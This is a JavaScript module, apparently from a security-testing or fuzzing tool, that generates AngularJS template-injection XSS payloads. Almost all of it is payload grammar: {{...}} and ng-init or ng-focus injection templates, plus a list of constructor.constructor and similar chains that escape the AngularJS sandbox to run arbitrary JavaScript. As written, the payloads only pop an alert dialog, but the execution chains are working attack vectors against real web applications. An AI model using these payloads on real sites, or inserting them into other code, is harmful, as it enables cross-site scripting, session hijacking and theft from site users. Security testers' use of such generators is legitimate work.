import { ANGULAR } from '../context.js';
import { xssGenerator } from '../xss-generator.js';

/** Expressions of AngularJS 1.6 and later, which has no sandbox any more, and of those before. */
export const angularTemplate = xssGenerator({
  name: 'angular-template',
  contexts: [ANGULAR],
  rules: {
    start: [
      '{{' + '{expression}' + '}}',
      '{word} {{' + '{expression}' + '}}',
      '{{ ' + '{expression} ' + '}}',
      '<{element} ng-{directive}="{expression-d}">x</{element}>',
      '<{element} data-ng-{directive}="{expression-d}">x</{element}>',
      '<x ng-init="{expression-d}">',
      '<input autofocus ng-focus="$event.view.alert({digit})">',
      '<{element} ng-app ng-init="{expression-d}">x',
      "<input ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)' autofocus>",
      '{{ {digit}|{expression}' + '}}',
    ],
    directive: ['init', 'click', 'mouseover', 'bind', 'if', 'show', 'class', 'style', 'repeat'],
    expression: [
      "constructor.constructor('{dialog}({digit})')()",
      "$on.constructor('{dialog}(1)')()",
      "$eval.constructor('{dialog}({digit})')()",
      "[].pop.constructor('{dialog}(1)')()",
      "toString.constructor('{dialog}({digit})')()",
      "'a'.constructor.fromCharCode.constructor('{dialog}({digit})')()",
      'constructor.constructor("{dialog}({digit})")()',
      "x=constructor;x.constructor('{dialog}(1)')()",
      "$new.constructor('{dialog}(document.domain)')()",
      "(_=''.sub).constructor('{dialog}({digit})')()",
      "{}.toString.constructor('{dialog}(1)')()",
      "0[a='constructor'][a]('{dialog}(1)')()",
      "a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'{dialog}(1)')()",
      "this['constructor']['constructor']('{dialog}({digit})')()",
    ],
    'expression-d': [
      "constructor.constructor('{dialog}({digit})')()",
      "$on.constructor('{dialog}(1)')()",
      "$eval.constructor('{dialog}({digit})')()",
      "[].pop.constructor('{dialog}(1)')()",
      "x=toString.constructor('{dialog}({digit})')()",
    ],
  },
});
